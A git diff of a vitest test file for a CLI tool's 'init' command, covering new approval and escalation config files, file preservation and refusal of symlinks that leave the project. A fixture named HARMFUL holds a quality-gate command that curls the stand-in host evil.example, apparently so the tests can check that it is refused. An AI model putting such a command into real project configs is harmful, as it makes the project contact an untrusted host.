@@ -1,15 +1,24 @@
 import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
 import { basename, join } from 'node:path';
 import { expect, test } from 'vitest';
+import { readShippedConfig } from '../adapters/shipped-config.ts';
+import { ApprovalsFile } from '../domain/approval.ts';
+import { SHIPPED_APPROVALS } from '../domain/approval-type.ts';
+import { EscalationFile, LEVEL_ACTIONS } from '../domain/escalation-file.ts';
 import { HelixFile } from '../domain/helix-file.ts';
 import { PhasesFile } from '../domain/phases-file.ts';
+import { loadEscalation } from '../plan/load-escalation.ts';
+import { memoryProject } from '../plan/memory-project.fixture.ts';
 import { parseYaml } from '../text/yaml.ts';
+import { configTexts } from './config-texts.ts';
 import { makePlace } from './helix.fixture.ts';
 import { helixYaml, LANGUAGES } from './project-texts.ts';
 import { writeProject } from './write-project.ts';
 
 const HARMFUL =
   'phases:\n  - id: a\n    type: test\n    quality_gate: { type: custom, command: [curl, evil.example] }\n';
+
+const FILES = ['phases.yaml', 'helix.yaml', 'config/approvals.yaml', 'config/escalation.yaml', '.gitignore'];
 
 test('init makes a project called like its directory, ready to be checked and run', () => {
   const place = makePlace();
@@ -25,10 +34,13 @@ test('init makes a project called like its directory, ready to be checked and ru
   });
   expect(err).toContain('note     this is no git repository');
   expect(place.read('.gitignore')).toBe('.helix/\n');
-  for (const name of ['phases', 'helix']) {
+  for (const name of ['phases', 'helix', 'approvals', 'escalation']) {
     expect(place.read(`.helix/schemas/${name}.schema.json`)).toBe(place.helix(['schema', name]).out);
   }
-  expect(place.helix(['plan']).code).toBe(0);
+  expect(place.read('config/escalation.yaml')).toMatch(/^# yaml-language-server: [$]schema=[.][.]\/[.]helix\//);
+  const plan = place.helix(['plan']);
+  expect({ code: plan.code, err: plan.err }).toEqual({ code: 0, err: '' });
+  expect(plan.out).not.toContain('config/');
 });
 
 test('init makes the directory it is given', () => {
@@ -65,11 +77,11 @@ test('no file is overwritten, and a second init changes nothing', () => {
   place.write('helix.yaml', 'language: fr\n');
   place.helix(['init']);
   expect(place.read('helix.yaml')).toBe('language: fr\n');
-  const before = ['phases.yaml', 'helix.yaml', '.gitignore'].map(place.read);
+  const before = FILES.map(place.read);
   const { code, out } = place.helix(['init', '--lang', 'de']);
   expect(code).toBe(0);
-  expect(out).toBe('kept     phases.yaml\nkept     helix.yaml\nkept     .gitignore\n');
-  expect(['phases.yaml', 'helix.yaml', '.gitignore'].map(place.read)).toEqual(before);
+  expect(out).toBe(FILES.map((path) => `kept     ${path}\n`).join(''));
+  expect(FILES.map(place.read)).toEqual(before);
 });
 
 test.each([
@@ -98,6 +110,13 @@ test('a link that leaves the project is not written through', () => {
   expect(err).toContain('is a symbolic link');
   expect(existsSync(join(place.dir, 'elsewhere/target'))).toBe(false);
   expect(existsSync(join(place.dir, 'elsewhere/schemas'))).toBe(false);
+  mkdirSync(join(place.dir, 'linked'));
+  symlinkSync('../elsewhere', join(place.dir, 'linked/config'));
+  expect(place.helix(['init', 'linked'])).toMatchObject({
+    code: 2,
+    err: expect.stringContaining('config is a symbolic link'),
+  });
+  expect(existsSync(join(place.dir, 'elsewhere/escalation.yaml'))).toBe(false);
 });
 
 test('a file in the way is named', () => {
@@ -118,6 +137,39 @@ test.each(LANGUAGES)('helix.yaml in %s explains every key, and what it shows in 
     language,
     agents: { default: { driver: 'claude-code' }, trial: { driver: 'scripted' } },
   });
+});
+
+test.each(
+  LANGUAGES,
+)('the files in config in %s explain every key, and what they show in comments is right', (language) => {
+  const texts = configTexts(language);
+  const read = (path: string): unknown => {
+    const shown = texts[path]?.replaceAll(/^( *)# ?( *(?:- )?[a-z_]+:(?: .*)?)$/gm, '$1$2') ?? '';
+    const { value, findings } = parseYaml(shown, path);
+    expect(findings).toEqual([]);
+    return value;
+  };
+  const { defaults = {}, approvals = {} } = ApprovalsFile.parse(read('config/approvals.yaml'));
+  expect(Object.keys(approvals)).toEqual(SHIPPED_APPROVALS);
+  expect([...Object.keys(defaults), 'checks'].sort()).toEqual(
+    Object.keys(ApprovalsFile.shape.defaults.unwrap().shape).sort(),
+  );
+  const { escalation, error_patterns } = EscalationFile.parse(read('config/escalation.yaml'));
+  expect(Object.keys(escalation ?? {})).toEqual(['max_retries_per_level', 'attempt_timeout', 'levels']);
+  expect(escalation?.levels).toMatchObject({
+    stufe_1: { max_attempts: 3, actions: LEVEL_ACTIONS.stufe_1.slice(0, 5).map((type) => ({ type })) },
+    stufe_2: { wait_timeout_hours: 24, on_timeout: 'wait', actions: [{ type: 'notify', channels: ['team'] }] },
+  });
+  expect(error_patterns).toHaveLength(1);
+});
+
+test('what init writes into config changes nothing', async () => {
+  const project = memoryProject({});
+  const shipped = readShippedConfig('escalation.yaml').text;
+  const { own: _, ...usual } = await loadEscalation(project, shipped);
+  const { own, ...written } = await loadEscalation(memoryProject(configTexts('en')), shipped);
+  expect(own?.findings.sorted).toEqual([]);
+  expect(written).toEqual(usual);
 });
 
 test('an unknown language is refused', () => {
